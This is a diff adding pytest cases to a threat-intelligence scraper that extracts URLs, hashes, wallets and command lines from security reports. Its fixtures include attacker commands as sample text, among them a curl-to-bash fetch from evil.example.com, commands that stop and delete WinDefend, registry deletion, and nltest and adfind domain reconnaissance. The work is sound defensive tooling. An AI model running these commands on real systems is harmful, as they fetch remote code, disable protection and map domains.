@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ctiscraper.enrich.kinds import Kind, Observable
-from ctiscraper.enrich.observables import find_observables
+from ctiscraper.enrich.observables import find_observables, root_urls
 
 
 def found(text: str, *kinds: Kind) -> list[tuple[Kind, str]]:
@@ -77,6 +77,10 @@ def test_a_url_is_read_in_every_spelling_that_hides_it(spelling: str) -> None:
         ("a.example.com/x.php?y=1", "http://a.example.com/x.php?y=1"),
         ("1.2.3[.]4:8080/x", "http://1.2.3.4:8080/x"),
         ("http://duskgytldkxiuqc6.onion/x", "http://duskgytldkxiuqc6.onion/x"),
+        ("https://a.example.com/x?re=a(.)b", "https://a.example.com/x?re=a(.)b"),
+        ("https://a(.)example.com/x(.)php", "https://a.example.com/x.php"),
+        ("hxxps://a.example.com/x(.)php", "https://a.example.com/x.php"),
+        ("https://a.example.com/x[.]php", "https://a.example.com/x.php"),
     ],
 )
 def test_a_url_ends_where_the_sentence_goes_on(text: str, url: str) -> None:
@@ -242,6 +246,18 @@ def test_a_wallet_is_known_by_its_check_sum(address: str) -> None:
     assert value.lower() == address.lower()
 
 
+@pytest.mark.parametrize(
+    "link",
+    ["https://www.virustotal.com/gui/file/{}/detection", "hxxps://bazaar.abuse[.]ch/sample/{}"],
+)
+def test_a_link_to_an_analysis_names_the_file(link: str) -> None:
+    text = f"See {link.format(SHA256)} for it"
+    url, digest = find_observables(text)
+    assert (url.kind, digest.kind) == (Kind.URL, Kind.SHA256)
+    assert text[digest.start : digest.end] == digest.value == SHA256
+    assert not found(f"https://a.example.com/{SHA256}/x", Kind.SHA256)
+
+
 def test_a_wallet_with_a_wrong_letter_is_none() -> None:
     assert not found("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", Kind.CRYPTO_ADDRESS)
     assert not found("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp", Kind.CRYPTO_ADDRESS)
@@ -311,6 +327,21 @@ def test_a_mutex_is_not_the_next_word() -> None:
         ),
         ("Then `rundll32 c:\\x\\y.dll,init` was used", "rundll32 c:\\x\\y.dll,init"),
         ("sc stop WinDefend sc delete WinDefend", "sc stop WinDefend"),
+        ("nltest /domain_trusts net group x /dom", "nltest /domain_trusts"),
+        ("reg delete HKLM\\X /f reg add HKLM\\Y /f", "reg delete HKLM\\X /f"),
+        ("cmd.exe /c whoami /all", "cmd.exe /c whoami /all"),
+        ("conhost.exe --headless cmd /c dir x", "conhost.exe --headless cmd /c dir x"),
+        ('adfind.exe -f "(objectcategory=group)".', 'adfind.exe -f "(objectcategory=group)"'),
+        ("nltest /dclist: was used", "nltest /dclist:"),
+        ('del "c:\\temp\\x.exe"', 'del "c:\\temp\\x.exe"'),
+        ('echo "hello" > x.txt', 'echo "hello" > x.txt'),
+        ("nltest /dclist:, whoami /groups", "nltest /dclist:"),
+        ("sc delete WinDefend Disables the main service", "sc delete WinDefend"),
+        ("net user DC-01$ P@ss Figure 5: An example", "net user DC-01$ P@ss"),
+        (
+            'psql.exe -c "select a from b where the c" and then it',
+            'psql.exe -c "select a from b where the c"',
+        ),
         (
             "curl -fsSL http://evil.example.com/x.sh | bash",
             "curl -fsSL http://evil.example.com/x.sh | bash",
@@ -328,6 +359,14 @@ def test_command_lines(text: str, command: str) -> None:
         "They reached the route for the first time and set up a node.",
         "explorer.exe process was running",
         "Start with the type of the file, then copy it.",
+        "They used net user and net group to enumerate accounts.",
+        "msbuild.exe communicated with 45.141.87.55 on port 9000",
+        "quser.exe or wmic.exe are run, and systeminfo commands as well",
+        "The page at https://a.example.com/x and at C:\\Temp\\x.exe is gone.",
+        "It waits for flashutil_activex.exe and looks where schtasks.exe is.",
+        "Run sharphound (disguised as sh.exe) there. cmd.exe (a shell) -x",
+        "New-Object System.Data.DataSet $x",
+        'Use the code "50OFF699" and type "yes" to go on.',
     ],
 )
 def test_sentences_are_no_commands(text: str) -> None:
@@ -406,3 +445,11 @@ def test_time_grows_with_the_text_and_not_faster(unit: str) -> None:
     cpu(1000)
     small = min(cpu(20_000) for _ in range(3))
     assert min(cpu(160_000) for _ in range(2)) < max(small, 0.002) * 8 * 4
+
+
+def test_a_host_that_stands_alone_may_be_told_as_a_url() -> None:
+    hosts = find_observables("evil[.]com, 1.2.3[.]4 and http://evil.com/x")
+    assert [(o.value, o.start, o.defanged) for o in root_urls(hosts)] == [
+        ("http://evil.com", 0, True),
+        ("http://1.2.3.4", 12, True),
+    ]
